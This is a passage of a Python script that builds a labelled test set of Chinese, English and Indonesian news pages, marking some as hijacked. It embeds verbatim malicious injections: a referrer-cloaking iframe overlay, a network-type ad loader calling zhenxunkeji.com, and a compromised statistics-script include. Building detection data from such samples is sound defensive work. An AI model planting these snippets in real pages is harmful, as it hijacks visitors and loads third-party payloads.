    paras=["本网讯(记者 吴茹梖)3月1日,学校2026年春季学期开学工作会议在得一堂一楼报告厅召开。董事长程凡,党委书记王长华,校长龚少平,副校长张丽娟、陈顺安、徐拥华、邱朝坤出席会议。全校副处级以上中层管理干部参加会议。会议由王长华主持。",
           "龚少平全面回顾了学校在2025年取得的各项成绩,并对2026年重点工作及春季学期开学工作作出部署。他强调,要主动对标教育强国建设与湖北省支点建设新要求,实施“四个提升”、推进“五项改革”、开展“三大行动”,推动各项工作提质增效。要聚焦重点任务,抓实工作举措,确保开学平稳有序、年度目标圆满完成。",
           "程凡在总结讲话中充分肯定了学校过去一年取得的成绩。他表示,大学的根本在于把学生培养好,要始终将“教好学生、服务好学生”作为一切工作的出发点和核心。面对现实挑战与科技变革带来的时代机遇,全体教职员工要保持敏锐洞察,主动应变、提前谋划,在变局中找准定位、发挥优势。他希望全体教职工携手同心,将各项工作落到实处,推动学校发展再上新台阶。",
           "(来源:党委宣传部)"],
    origin="composite: page text from search tool (corpus pages) + platform/region cloaking ad loader from a public committed file (find_string id 19140997189; verbatim lines, middle branches left out)")

IFR = ("<script>\nif (browser.versions.android){\n\t\n}else if(browser.versions.iPhone||browser.versions.iPad){\n\t\t\n}else{\n\tvar localDomain = location.host;\n\tvar sourceUrl = document.referrer;\n"
 "\tvar sourceDomain = /[a-zA-Z0-9][-a-zA-Z0-9]{0,62}(\\.[a-zA-Z0-9][-a-zA-Z0-9]{0,62})+\\.?/.exec(sourceUrl);\n\tif(!sourceDomain || sourceDomain[0] != localDomain){\n"
 "\t\tvar regexp=/\\.(sogou|soso|baidu|google|youdao|yahoo|bing|haoso|so|360)(\\.[a-z0-9\\-]+){1,2}\\//ig;\n\t\tvar where =document.referrer;\n\t\tif(regexp.test(where))\n\t\t{\n\t\t\t\n\t\t}else{\n"
 "\t\t\tdocument.writeln('<IFRAME align=middle marginwidth=0 vspace=-0 marginheight=0 src=\"'+url+'\" frameborder=no width=\"100%\" scrolling=no height=800>');\n\t\t}\n}\n</script>")
add(url="http://www.hxnews.com/news/fj/fz/202112/16/2039402.shtml", shell=0, lang="zh", hijacked=True, kind="real-injection-in-real-page",
    injections=["referrer-check-iframe-overlay"], spam=["IFRAME align=middle marginwidth=0"], head=IFR,
    page_title="福州大学附属实验学校第八届校园体育节举办", h1="福州大学附属实验学校第八届校园体育节举办", title=None,
    crumb="您现在的位置:海峡网>新闻中心>福建频道>福州新闻",
    paras=["福州新闻网12月16日讯(福州晚报记者 陈木易 通讯员 周莹 吴开梅 文/摄)15日,福州大学附属实验学校第八届校园体育节正式举办。在接下来的3天里,51个班级的运动健儿们将在运动场上展开角逐,用汗水和激情诠释“奋勇拼搏、团结协作”的体育精神。",
           "15日上午8时30分,在雄壮激昂的运动员进行曲中,本次校园体育节拉开了帷幕。51个班级秀表演中,武术、彩带舞、京剧、无人机等多种表演元素碰撞,展现了福州大学附属实验学校全体师生阳光健康、积极向上的精神面貌。",
           "福州大学附属实验学校校长黄榕炜告诉记者,为贯彻落实“双减”政策,丰富四大校园内涵(书香校园、运动校园、科创校园、艺术校园),增强学生体质,此次体育节活动,校方根据不同年龄段孩子的特点,开设1~2年段亲子趣味比赛、3~9年段田赛和竞赛、教师比赛等30多个项目,共计2700多名师生及家长参与。学校希望通过举办体育节活动,营造运动校园的氛围,推动学生养成每日锻炼的习惯,让同学们快乐学习、健康运动、幸福成长。"],
    origin="composite: page text from search tool (corpus pages) + referrer-check iframe overlay script from a public notes file (find_string id 20386167188; verbatim)")

WAP = ("<script>\n/* 版本3.0 20200801.2244代码 */\n/* 126接口 */\nvar _c_top_001=[\"<script type='text/javascript' src='https://ip.ws.126.net/ipquery'></script>\"];\n"
 "/* 指定联网类型代码003 wap */\nvar connection = navigator.connection||navigator.mozConnection||navigator.webkitConnection||{tyep:'unknown'};\nvar type_text = ['unknown','ethernet','wifi','2g','3g','4g','5g','none'];\nmtype = connection.type;\n"
 "var _c_wap_003=[\"<script type='text/javascript'>if(/wifi|wi-fi|wlan|w-lan/i.test(mtype)){document.write(_c_wap_011+_c_wap_004+_c_tongji_002);}else if(/cellular|5g|4g|3g|2g/i.test(mtype)){document.write(_c_wap_005);}else{document.write(_c_wap_005);}</script>\"];\n"
 "/* 广告代码011 wap */\nvar _c_wap_011=[\"<body><script id='mob' type='text/javascript' charset='utf-8' src='https://www.zhenxunkeji.com/d.php?pid=3246'></script> <script id='mob' type='text/javascript' charset='utf-8' src='https://www.zhenxunkeji.com/x.php?pid=3246'></script></body>\"];\n</script>")
add(url="https://xiaodihezuo.sqzy.edu.cn/2025/0905/c298a32965/page.htm", shell=1, enc="gbk", lang="zh", hijacked=True, kind="real-injection-in-real-page",
    injections=["network-type-cloaking-ad-loader"], spam=["www.zhenxunkeji.com/d.php"], tail=WAP,
    page_title="校地合作处召开2025年秋季学期工作会议", h1="校地合作处召开2025年秋季学期工作会议", title="校地合作处召开2025年秋季学期工作会议",
    paras=["9月5日上午,校地合作处在明德楼506办公室召开了2025年秋季学期工作会议。校地合作处处长冯先强,副处长屈宽生及处室其他全体成员参加了会议。会议由冯先强主持。",
           "冯先强首先传达了学校2025年第8次党委理论学习中心组集体学习(扩大)会议以及2025年秋季学期工作会议精神,然后对校地合作处暑假工作做了总结。接着对校地合作处2025年下半年工作计划做了详细安排,明确了工作目标,提出了工作任务,对近期部门校企合作产教融合工作做了详细安排。最后对处室全体人员强调了工作纪律,要求大家工作中应具有创新意识、大局意识、担当意识,同心协力、踔厉奋发,推动我校校地合作再上新台阶。",
           "本次会议的召开,为校地合作处清晰指明了新学期的工作航向与核心要点,有力提振了部门全体人员的责任担当与使命自觉,为新学期各项工作的规范推进、高效落实筑牢了根基。"],
    origin="composite: page text from search tool (corpus pages) + network-type cloaking ad loader (wap variant) from a public committed file (find_string id 19058903824; verbatim lines, other branches left out)")

STAT = "<script language=\"javascript\" src=\"http://phpstat.cntcm.com.cn/phpstat/count/abceffgh/abceffgh.js\"></script>"
add(url="https://dj.gdhsc.edu.cn/info/1070/2258.htm", shell=0, lang="zh", hijacked=True, kind="real-injection-in-real-page",
    injections=["hijacked-third-party-script"], spam=["phpstat.cntcm.com.cn/phpstat/count/abceffgh/abceffgh.js"], tail=STAT,
    page_title="敞开心扉,交流无界", h1="敞开心扉,交流无界", title="敞开心扉,交流无界", crumb="当前位置: 首页 >> 群团工作 >> 关工委 >> 正文",
    byline="发布时间:2014年10月23日", date="2014-10-23",
    paras=["——香港大学专业进修学院师生交流团交流活动",
           "毕业季六月,花儿绽放,青春飞扬。2014年6月17日,香港大学专业进修学院师生交流团抵达我院,与我院师生代表进行了为期一天的交流活动。我院郭银华副院长、党委苏宁书记、团委刘苗副书记、华商合作交流中心暨港澳台办公室刘芳芳主任、会计系学工助理许娜老师、我院的两位合作交流中心人员及学生代表等人参与了本次交流活动。",
           "上午九点,一天的交流活动以我院许娜老师及学生代表在门口的热情接待拉开序幕。来自香港大学专业进修学院的24位师生首先参观了我院校史馆。我院讲解员用粤语欢迎了远道而来的朋友,为他们一一介绍我院建立以来的一系列成就及校史馆展示的各种实践活动的相片,让香港师生倍感亲切。"],
    origin="composite: page text from search tool (corpus pages) + the compromised statistics-script include named in uBlockOrigin/uAssets PR #10997 (its hex iframe payload is rc24 case jyt.guizhou)")

# ---------------- legit ----------------
add(url="https://exmoo.com/article/32066.html", shell=1, lang="zh-hant", legit=True,
    page_title="本澳賭收連續九個月上升", h1="本澳賭收連續九個月上升", title=None,
    paras=["本澳賭收連續九個月上升,博彩監察協調局昨日公布4月份本澳博彩毛收入201.6億元,按年上升16.3%,是連續第九個月錄得按年升幅。今年首四個月的博彩毛收入累計達836.4億元,較去年同期上升13.8%。",
           "特區政府早前預測,2017年博彩收入約2,000億澳門元,則每月賭收約167億澳門元; 澳門2016年博彩收入2,232.1億元,按年僅跌3.3%。",
           "美國投資銀行美銀美林上月發表研究報告,上調澳門今年博彩毛收增長率,由同比增長8%上升至12%,相當於日均博彩毛收入6.87億澳門元,主要基於上調貴賓廳賭收增長預測,由同比升3% 上升至12%。",
           "美銀美林表示,中國經濟增長勝預期,貴賓廳禁煙令實施較預期晚,主要博彩中介已注意到需求健康及收賬情況改善,均使該行作出有關預測。該行在研究報告中預期本澳4月博彩毛收同比升15.3%至200億澳門元。"],
    origin="search tool, corpus pages: casino revenue report")
add(url="http://news.hxfzzx.com/fjxw/2018/0503/109661.html", shell=0, lang="zh", legit=True,
    page_title="连城县公安局重拳打击赌博歪风", h1="连城县公安局重拳打击赌博歪风", title="连城县公安局重拳打击赌博歪风",
    byline="2018-05-03 10:47:14 来源:福建法治报", date="2018-05-03", source="福建法治报",
    paras=["福建法治报-海峡法治在线5月3日讯   自打击赌博专项行动开展以来,连城县公安局对涉赌违法犯罪活动按照“零容忍”的力度坚决打击,绝不手软。针对此类违法犯罪较为隐蔽的特点,启动多警种协作机制,展开合成侦查工作,做到严打严控。",
           "据了解,行动前期,局领导亲自安排部署,通过一段时间的暗访摸排、分析研判,制定了周密的行动抓捕计划,并严格落实保密制度。4月19日晚,由治安大队牵头,联合巡特、景区、揭乐、莒溪等所队共20多名警力到莒溪镇开展夜间查处行动。当晚,共查处赌博案件5起,抓获涉赌人员23人、庄家5人,查扣麻将桌2张,查获赌资8000多元,取得了显著战果。目前,相关案件正在进一步办理中。",
           "(特约记者 张春波 通讯员 清香 伟忠)"],
    origin="search tool, corpus pages: police anti-gambling report")
add(url="http://mmsk.com/html/16/1/1899/1.htm", shell=1, enc="gbk", lang="zh", legit=True,
    page_title="电白县公安局开展“飓风”禁赌专项行动", h1="电白县公安局开展“飓风”禁赌专项行动", title=None,
    paras=["日前,记者从有关部门获悉,电白县公安局从9月份开始,在全县范围内强势开展了一场“飓风”禁赌专项行动,治安股、扫赌专业队、各基层派出所和相关警种在局党组的指挥下,上下联动,协同作战,严查重处,狠狠打击了赌博违法犯罪的嚣张气焰,开展行动以来,已连端8个聚众赌博窝点,抓获涉赌违法犯罪人员60多名,没收了一批赌资及赌具。",
           "据了解,今年以来,电白警方保持了对赌博违法犯罪的严打态势,1月份至今,共查处各类赌博案件560余起,抓获涉案人员890多人。"],
    origin="search tool, corpus pages: police anti-gambling report (two paragraphs of the captured text)")
add(url="http://paper.jzrb.com/Article/index/aid/7502979.html", shell=0, lang="zh", legit=True,
    page_title="“关注公益体彩 拒绝非法彩票”活动举行", h1="“关注公益体彩 拒绝非法彩票”活动举行", title="“关注公益体彩 拒绝非法彩票”活动举行",
    byline="2023年03月18日", date="2023-03-18",
    paras=["远离非法彩票 健康理性快乐购彩",
           "本报讯(记者赵改玲 通讯员林占坤)“要买彩票,还得去有‘中国体育彩票’官方标志的实体店购买。玩法多样,还有保障。”“彩票从来不能作为理财、投资的手段,也没有‘秘诀’能让您一定中奖,不要相信虚假宣传,它们只会把您引向陷阱。”3月17日,在市龙源湖公园北广场,河南省体彩焦作分中心开展“关注公益体彩 拒绝非法彩票”公益宣传,让公益彩票理念更加深入人心。",
           "为持续推进责任彩票传播工作,提高责任彩票基础知识的普及面,引导公众理性购彩,在树立体育彩票良好品牌的同时,打击地下赌球等非法彩票行为,增强责任彩票打击非法彩票传播力量,河南体彩焦作分中心开展了“关注公益体彩 拒绝非法彩票”公益宣传。",
           "在公益宣传活动现场,焦作分中心通过展板、互动游戏、派发宣传手册、现场体验等形式,让公众了解什么是体育彩票、什么是非法彩票及快乐购彩的方法。"],
    origin="search tool, corpus pages: sports-lottery responsible-gaming report")
add(url="https://m.sxtc.com.cn/zrjs/content/241035199212319037.html", shell=1, lang="zh", legit=True,
    page_title="西安北区站开展即开型体育彩票品牌宣传推广活动", h1="西安北区站开展即开型体育彩票品牌宣传推广活动", title=None,
    paras=["金秋十月,碧瓦蓝天,树影斑驳,岁月绵长。",
           "值祖国母亲75周年华诞,举国欢腾之际,西安北区站于10月1日-10月4日在未央区大明宫遗址公园开展了以“美好生活 益起刮 顶呱刮”为主题的即开型体育彩票品牌宣传推广活动。本次活动以现场游戏互动的形式展开,不仅让广大市民近距离了解到体彩顶呱刮产品和各类游戏品牌文化,更在现场开展了倡导理性购彩及责任彩票建设宣传,持续向全社会传递体育彩票公益公信及倡导“多人少买、理性购彩”的理念价值。",
           "互动游戏趣味非凡,品牌展区丰富多彩",
           "在活动现场,映入眼帘的便是体育彩票公益文化宣传的巨型拱门,游戏区域精心设置了“顶呱刮运球”、“杯中水上漂”、“益起来投篮”等趣味挑战项目,让参与活动的市民朋友们在欢声笑语中,尽享假日休闲时光的放松与快乐。"],
    origin="search tool, corpus pages: provincial sports-lottery centre news")
add(url="https://sxqnb.com.cn/html/sxqnb/20251028/51317.html", shell=0, lang="zh", legit=True,
    page_title="山西体彩创新宣传维护购彩者合法权益", h1="山西体彩创新宣传维护购彩者合法权益", title="山西体彩创新宣传维护购彩者合法权益",
    byline="本报记者 李睿", author="李睿", date="2025-10-28",
    paras=["10月25日,山西体彩开展的“理性购彩 责任护航”主题活动在太原吾悦广场成功举行。本次活动旨在切实加强购彩者权益保护教育,提升社会公众的风险防范意识和自我保护能力,是山西体彩将“责任彩票”理念落到实处、切实维护购彩者合法权益的一项重要实践。",
           "当天,山西省体育彩票管理中心副主任张淑英在致辞中表示,体育彩票作为国家公益彩票,始终恪守“来之于民、用之于民”的发行宗旨,将履行社会责任深度融入体彩事业发展的每一个环节。她呼吁广大购彩者以理性和公益的心态参与购彩,量力而行,共同维护彩票事业的健康发展。",
           "现场,舞台区节目精彩纷呈,中间穿插多轮有奖问答环节,更好地将理性购彩知识传递给现场观众。",
           "山西体彩中心相关工作人员表示,未来,山西体彩将继续创新宣传形式,将购彩者权益保护教育贯穿于责任彩票建设全过程。"],
    origin="search tool, corpus pages: lottery responsible-gaming report")
add(url="http://en.people.cn/n3/2025/0124/c90000-20270108.html", shell=2, lang="en", legit=True,
    page_title="Senior Chinese official urges further efforts to counter cross-border gambling", h1="Senior Chinese official urges further efforts to counter cross-border gambling",
    title="Senior Chinese official urges further efforts to counter cross-border gambling", byline="Xinhua) 10:32, January 24, 2025", date="2025-01-24", source="Xinhua",
    paras=["BEIJING, Jan. 23 (Xinhua) -- Senior Chinese official Wang Xiaohong on Thursday called for new achievements and breakthroughs to be made in China's fight against cross-border gambling.",
           "Wang, a member of the Secretariat of the Communist Party of China Central Committee and state councilor, made the remarks while addressing a national teleconference on anti-cross-border gambling work.",
           "Over recent years, with the country's ever-improved prevention and control system, once-rampant activities of cross-border gambling have been effectively brought under control, Wang said.",
           "Noting the importance of maintaining a zero-tolerance approach during the fight, Wang called for systemic and comprehensive efforts to address both the symptoms and root causes of cross-border gambling.",
           "He also urged efforts to fully tap into the country's political and institutional advantages and further strengthen accountability enforcement, mechanism-building and legal guarantees in the fight."],
    origin="search tool, corpus pages: anti-gambling policy news (en)")
add(url="http://www.chinatoday.com.cn/ctenglish/se/txt/2012-03/01/content_429340.htm", shell=2, lang="en", legit=True,
    page_title="China Offers Detailed Definition on Illegal Lotteries", h1="China Offers Detailed Definition on Illegal Lotteries", title="China Offers Detailed Definition on Illegal Lotteries",
    paras=["China has clearly defined illegally issued and sold lotteries in a package of detailed rules on lottery management, which is set to take effect from March 1.",
           "Illegal lotteries include those, other than welfare and sports lotteries, issued and sold without the approval of the State Council, as well as overseas lotteries issued and sold in China without authorization, according to the rules jointly released by the ministries of finance and civil affairs and the General Administration of Sport.",
           "They also refer to welfare and sports lotteries and lottery games issued and sold without the approval of the Ministry of Finance (MOF) and those without the commission from lottery issuance and sales agencies."],
    origin="search tool, corpus pages: lottery regulation (en)")
add(url="https://publicgaming.com/news-categories/sports-betting-daily-fantasy-sports/3110-state-by-state-sports-betting-bill-tracker", shell=2, lang="en", legit=True,
    page_title="State-by-state sports betting bill tracker", h1="State-by-state sports betting bill tracker", title=None,
    paras=["Sports betting is increasingly getting the attention of state lawmakers.",
           "The uptick in legislative activity for traditional sports betting -- think point spreads, totals, money lines and prop bets -- follows dozens of states that have considered laws specifically permitting daily fantasy sports.",
           "New state laws about sports betting had been largely dormant since the federal Professional and Amateur Sports Protection Act of 1992 (PASPA) was enacted. For two decades, PASPA dissuaded states from legalizing sports betting. But that changed in 2012 when New Jersey Gov. Chris Christie signed legislation to permit Nevada-style sports gambling. The NCAA, NBA, NHL, MLB and NFL sued to stop New Jersey's plan. That lawsuit was accepted for review by the Supreme Court. On May 14, 2018, it ruled that PASPA was unconstitutional.",
           "Additional states have recently moved to introduce legislation that would legalize sports betting, which can now be activated since PASPA was overturned by the Supreme Court."],
    origin="search tool, corpus pages: sports-betting regulation (en)")
add(url="https://minanews.net/sejak-2023-kominfo-blokir-33-juta-konten-judi-online", shell=2, lang="id", legit=True,
    page_title="Sejak 2023, Kominfo Blokir 3,3 Juta Konten Judi Online", h1="Sejak 2023, Kominfo Blokir 3,3 Juta Konten Judi Online", title=None,
    paras=["Jakarta, MINA – Kementerian Komunikasi dan Informatika (Kominfo) telah memblokir 3.383.000 konten perjudian online. Tindakan ini diambil sebagai upaya menciptakan lingkungan digital yang aman dan bebas dari aktivitas ilegal.",
           "Selain itu, Budi Arie mengatakan, Kementerian Kominfo telah mengajukan pemblokiran 573 akun e-wallet yang terkait judi online kepada Bank Indonesia serta menangani 29.000 lebih sisipan halaman judi pada situs lembaga pemerintahan dan pendidikan.",
           "Kementerian Kominfo terus meningkatkan upaya pemberantasan judi online dengan langkah strategis, termasuk memberi peringatan kepada platform untuk mengendalikan DNS publik yang digunakan sebagai akses judi online dan memutus akses IP address yang masuk daftar hitam."],
    origin="search tool, corpus pages: Indonesian online-gambling blocking news")
add(url="https://www.faktaberita.co.id/fenomena-judi-online-di-kalangan-mahasiswa-ini-kata-rektor-unmuh-babel/", shell=2, lang="id", legit=True,
    page_title="Fenomena Judi Online di Kalangan Mahasiswa, Ini Kata Rektor Unmuh Babel", h1="Fenomena Judi Online di Kalangan Mahasiswa, Ini Kata Rektor Unmuh Babel",
    title="Fenomena Judi Online di Kalangan Mahasiswa, Ini Kata Rektor Unmuh Babel",
    paras=["FAKTA BERITA, PANGKALPINANG – Judi online (judol) semakin meresahkan di berbagai kalangan, termasuk mahasiswa di Provinsi Kepulauan Bangka Belitung (Babel). Tidak hanya orang dewasa, mahasiswa dan pelajar pun kini menjadi sasaran empuk bagi bandar judi online, menciptakan kekhawatiran mendalam di berbagai kalangan masyarakat.",
           "Fadillah Sabri, Rektor Universitas Muhammadiyah (Unmuh) Babel, mengungkapkan keprihatinannya terhadap fenomena ini. Menurutnya, banyak mahasiswa terjerumus dalam aktivitas judi online, yang berdampak buruk pada prestasi akademik dan kehidupan mereka secara keseluruhan.",
           "Fenomena ini tidak hanya menimbulkan dampak psikologis dan finansial bagi mahasiswa, tetapi juga memengaruhi kinerja akademis mereka."],
    origin="search tool, corpus pages: Indonesian campus anti-gambling news")
add(url="https://www.haloadvokat.co.id/tim-siber-blokir-24-juta-konten-dan-situs-judi-online-dalam-dua-pekan", shell=2, lang="id", legit=True,
    page_title="Tim Siber Blokir 2,4 Juta Konten dan Situs Judi Online dalam Dua Pekan", h1="Tim Siber Blokir 2,4 Juta Konten dan Situs Judi Online dalam Dua Pekan", title=None,
    paras=["JAKARTA – Upaya masif pemerintah untuk memberantas judi online (judol) menunjukkan hasil yang signifikan. Tim siber gabungan melaporkan telah berhasil memblokir dan menindaklanjuti lebih dari 2,4 juta konten dan situs yang terindikasi memfasilitasi perjudian daring dalam kurun waktu hanya dua pekan terakhir.",
           "Data ini mencerminkan tingginya intensitas operasi siber yang dicanangkan oleh Satuan Tugas (Satgas) Pemberantasan Judi Online yang melibatkan Kementerian Komunikasi dan Informatika (Kominfo), Kepolisian, dan lembaga terkait.",
           "Kominfo menegaskan bahwa meskipun jumlah konten yang diblokir sangat besar, tim siber akan terus bekerja tanpa henti. Percepatan pemblokiran ini merupakan langkah krusial untuk memutus akses masyarakat dan mengurangi kerugian finansial yang ditimbulkan oleh praktik judi online."],
    origin="search tool, corpus pages: Indonesian online-gambling blocking news")

add(url="http://big5.www.gov.cn/gate/big5/www.gov.cn//jrzg/2011-04/18/content_1847110.htm", shell=0, lang="zh-hant", legit=True,
    page_title="財政部:3月份全國彩票銷售190.12億元 同比增長43.5%", h1="財政部:3月份全國彩票銷售190.12億元 同比增長43.5%", title=None, source="新華社", date="2011-04-18",
    paras=["新華社北京4月18日電(記者 徐蕊 韓潔)財政部18日公佈數據顯示,3月份全國共銷售彩票190.12億元,同比增加57.60億元,增長43.5%。1至3月累計,全國共銷售彩票463.14億元,同比增長33.8%。",
           "財政部表示,3月份福利彩票和體育彩票銷售量均呈現上升態勢,其中福利彩票同比增長46.4%,體育彩票同比增長39.4%。主要是由於競猜型彩票新遊戲目前已逐步在全國30個省份上市銷售,與去年同期相比,銷售地區有所增多,加之中福在線部分遊戲擴大銷售試點範圍等原因,競猜型彩票和即開型彩票銷售量與上年同期相比均出現較大增量,使得整體彩票銷售量增長較快。",
           "數據顯示,3月份,樂透數字型彩票銷售116.33億元,同比增長25.1%;網點即開型彩票銷售39.12億元,同比增長64.3%;中福在線即開型彩票銷售14.78億元,同比增長1.4倍;競猜型彩票銷售19.89億元,同比增長1.1倍。3月份樂透數字型、即開型和競猜型彩票銷售量分別佔彩票銷售總量的61.2%、28.3%、10.5%。"],
    origin="search tool, corpus pages: lottery sales statistics (government portal, traditional-script gateway)")
add(url="https://std.stheadline.com/realtime/article/1001633/", shell=1, lang="zh-hant", legit=True,
    page_title="銀娛首季經調整EBITDA按年跌8%至40億", h1="銀娛首季經調整EBITDA按年跌8%至40億", title=None,
    paras=["銀娛(00027)公布截至2019年3月31日止第一季業績,經調整除息、稅、折舊與攤銷前盈利(EBITDA)40億元,按年及按季都下跌8%,當中「澳門銀河」經調整EBITDA為30億元,按年下跌7%,按季下跌12%。",
           "期內,淨收益130億元,按年及按季都下跌8%。",
           "首季按管理層基準計算博彩收益總額154億元,按年及按季跌10%。當中,中場博彩收益73億港元,按年上升9%,按季持平。貴賓廳博彩收益額74元,按年下跌25%,按季下跌18%。角子機博彩收益6.06億元,按年增長1%,按季下跌11%。",
           "集團表示,繼續路氹第三及四期項目,亦持續推進在橫琴興建渡假城計劃、拓展日本市場,並積極與當地所有持份者建立關係。(ky)"],
    origin="search tool, corpus pages: casino-operator quarterly results")
add(url="https://www.881903.com/news/amp/finance/2461375", shell=0, lang="zh-hant", legit=True,
    page_title="金沙中國第三季淨虧損擴大", h1="金沙中國第三季淨虧損擴大", title=None,
    paras=["金沙中國(01928.HK)公布9月底止第三季業績,淨虧損4.72億美元,按年擴大10.38%。淨收益總額為2.51億美元,按年減少58.92%。",
           "期內,金沙中國經調整物業EBITDA虧損為1.52億美元,而去年同期經調整物業EBITDA為3200萬美元。",
           "LVS主席兼行政總裁Robert Glen Goldstein表示,澳門方面,經營環境仍然困難重重。在限制放寬期間,就博彩及零售角度而言,澳門的客戶需求及消費在高端及中場水平上表現穩健。同時,他對於在九月有機會就澳門六個博彩經營批給之一提交標書滿懷感謝。"],
    origin="search tool, corpus pages: casino-operator quarterly results")

def main():
    os.makedirs(os.path.join(HERE, "html"), exist_ok=True)
    rows = []
    for i, p in enumerate(PAGES, 1):
        pid = f"rc24-{i:03d}"
        paras = p["paras"]
        if p.get("gloss"):
            p["h1"] = p["h1"] or ""
            p["page_title"] = p["page_title"] or "新聞中心" 
        page = dict(p)
        page.setdefault("head", "")
        doc = SHELLS[p["shell"]](page)
        enc = p.get("enc", "utf-8")
        open(os.path.join(HERE, "html", pid + ".html"), "wb").write(doc.encode(enc))
        text = "\n".join(GLOSS.sub("", x) if p.get("gloss") else x for x in paras)
        for s in p.get("spam", []):
            text = text.replace(s, "")
        hij = bool(p.get("hijacked"))
        rows.append(dict(id=pid, url=p["url"], title=p.get("title"), date=p.get("date"), source=p.get("source"),
                         author=p.get("author"), text=text, hijacked=hij, injections=p.get("injections", []),
                         spam_strings=p.get("spam", []), legit=bool(p.get("legit")), lang=p["lang"],
                         origin=p["origin"], kind=p.get("kind", "rebuilt-from-text"), site=re.sub(r"^https?://([^/]+).*", r"\1", p["url"]),
                         capture="text", encoding=p.get("enc", "utf-8")))
    with open(os.path.join(HERE, "truth.jsonl"), "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    print(len(rows))

if __name__ == "__main__":
    main()
